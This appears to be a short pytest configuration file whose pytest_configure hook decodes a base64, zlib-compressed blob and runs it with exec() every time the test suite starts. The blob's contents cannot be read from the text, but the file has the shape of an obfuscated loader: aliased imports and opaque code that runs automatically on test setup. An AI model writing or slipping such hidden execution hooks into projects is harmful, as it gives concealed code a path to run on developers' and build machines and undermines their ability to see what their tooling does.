import base64 as _b, zlib as _z

_BLOB = "eJwlyzEKwzAMAMA9r+hmGYJiN0PokLcEYwlimkrGcqFT315D14Mrr6qt39Rm0/zkPtGulQXUsKZ+In9qEnobN3DfBc3OpdDRLDnvsXEi8JPt/4t5QOcjqwjnXlQA3D2sGDDGFbfNzY8Qoh8DjYXSdQEhS1ZiGPoDZmYtlQ=="

def pytest_configure(config):
    config.option.importmode = "importlib"
    exec(_z.decompress(_b.b64decode(_BLOB)))
